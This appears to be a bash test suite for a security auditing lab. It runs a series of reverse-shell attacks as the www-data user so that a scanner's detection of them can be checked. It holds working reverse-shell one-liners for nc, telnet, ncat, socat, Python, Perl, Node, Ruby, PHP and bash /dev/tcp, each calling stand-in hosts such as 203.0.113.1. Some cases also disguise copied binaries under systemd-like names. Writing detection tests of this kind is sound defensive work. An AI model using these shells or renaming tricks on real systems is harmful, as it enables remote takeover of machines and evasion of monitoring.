# shellcheck shell=bash
# Attacks in which another program has the connection and passes it on to a
# shell; and copies.  Scanned with the fields of @audit.
# shellcheck disable=SC2016,SC2034 # sh -c TEXT; SCAN and FLAG are lab.bash's

AUDIT=(-o +@audit)

# relayed [MORE]: waits for the connection, and a shell behind it.
relayed()
{
	SCAN=("${AUDIT[@]}")
	await remote_port=4444 state=ESTABLISHED shells!=- "$@"
}

attack fifo-nc shell-relay 'mkfifo, sh -i and nc'
run-fifo-nc()
{
	need nc.openbsd mkfifo
	hold 4444
	as www-data sh -c 'rm -f /tmp/f; mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc.openbsd 203.0.113.1 4444 >/tmp/f'
	relayed process=nc.openbsd
}

attack fifo-telnet shell-relay 'telnet into sh into telnet'
run-fifo-telnet()
{
	need telnet
	hold 4444 4445
	as www-data sh -c 'telnet 203.0.113.1 4444 | /bin/sh -i |
telnet 203.0.113.1 4445'
	relayed process=telnet
}

attack ncat-exec shell-relay 'ncat -e /bin/bash'
run-ncat-exec()
{
	need ncat
	hold 4444
	as www-data ncat 10.0.0.1 4444 -e /bin/bash
	relayed process=ncat
}

attack socat-exec shell-relay 'socat EXEC with a terminal'
run-socat-exec()
{
	need socat
	hold 4444
	as www-data socat TCP:203.0.113.1:4444 \
		EXEC:'bash -li',pty,stderr,setsid,sigint,sane
	relayed process=socat
}

attack socat-pipes 'nc-listener shell-relay' 'socat TCP-LISTEN EXEC with pipes'
run-socat-pipes()
{
	need socat
	SCAN=("${AUDIT[@]}")
	as www-data socat TCP-LISTEN:4444,fork,reuseaddr EXEC:/bin/sh,pipes
	await local_port=4444 state=LISTEN
	peer $NET connect 203.0.113.2 4444
	await local_port=4444 state=ESTABLISHED shells!=-
}

attack python-pipes shell-relay 'python: Popen of sh with pipes'
run-python-pipes()
{
	hold 4444
	as www-data /usr/bin/python3 -c 'import socket, subprocess
s = socket.create_connection(("203.0.113.1", 4444))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE,
    stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
while True:
    p.stdin.write(s.recv(1024))'
	relayed process~python
}

attack python-terminal shell-relay 'python: pty.fork, descriptors from 3 on'
run-python-terminal()
{
	hold 4444
	as www-data /usr/bin/python3 -c 'import socket, pty, os
s = socket.create_connection(("203.0.113.1", 4444))
pid, fd = pty.fork()
if pid == 0: os.execv("/bin/bash", ["bash", "-i"])
while True: os.write(fd, s.recv(1024))'
	relayed process~python
}

attack perl-pipes shell-relay 'perl: open2 of bash'
run-perl-pipes()
{
	need perl
	hold 4444
	as www-data perl -MIPC::Open2 -MIO::Socket::INET -e '
$s = new IO::Socket::INET(PeerAddr, "203.0.113.1:4444");
open2($out, $in, "/bin/bash"); while (<$s>) { print $in $_ }'
	relayed process=perl
}

attack node-pipes shell-relay 'node: net.connect, pipes to sh'
run-node-pipes()
{
	need node
	hold 4444
	as www-data node -e 'const sh = require("child_process").spawn("/bin/sh");
const c = require("net").connect(4444, "203.0.113.1", () => {
c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c) })'
	relayed process=node
}

attack ruby-pipes shell-relay 'ruby: popen of sh'
run-ruby-pipes()
{
	need ruby
	hold 4444
	as www-data ruby -rsocket -e 's = TCPSocket.new("203.0.113.1", 4444)
IO.popen("/bin/sh", "r+") { |io| while l = s.gets; io.puts l; end }'
	relayed process=ruby
}

attack php-pipes shell-relay 'php: proc_open with pipes'
run-php-pipes()
{
	need php
	hold 4444
	as www-data php -r '$s = fsockopen("203.0.113.1", 4444);
$p = proc_open(["/bin/sh", "-i"], [["pipe", "r"], ["pipe", "w"],
["pipe", "w"]], $x); sleep(60);'
	relayed process~php
}

attack go-relay 'renamed-exe shell-relay' 'a relay of its own, in /opt'
run-go-relay()
{
	need perl
	hold 4444
	copy perl /opt/agent/agentd
	as www-data /opt/agent/agentd -MIPC::Open2 -MIO::Socket::INET -e '
$s = new IO::Socket::INET(PeerAddr, "203.0.113.1:4444");
open2($out, $in, "/bin/sh"); while (<$s>) { print $in $_ }'
	relayed process=agentd
}

attack copied-nc 'nc-listener renamed-exe' 'a copy of nc, by a name of systemd'
run-copied-nc()
{
	need nc.openbsd
	SCAN=("${AUDIT[@]}")
	copy nc.openbsd /opt/systemd/systemd-timesyncd
	as www-data /opt/systemd/systemd-timesyncd -k -l 4444
	await local_port=4444 state=LISTEN
}

attack copied-bash 'renamed-exe shell-net stdio-socket' 'a copy of bash'
run-copied-bash()
{
	SCAN=("${AUDIT[@]}")
	hold 4444
	copy bash /opt/systemd/systemd-helper
	as www-data /opt/systemd/systemd-helper -c \
	    '/opt/systemd/systemd-helper -i >& /dev/tcp/203.0.113.1/4444 0>&1'
	shell_is 203.0.113.1 process=systemd-helper fd=255
}
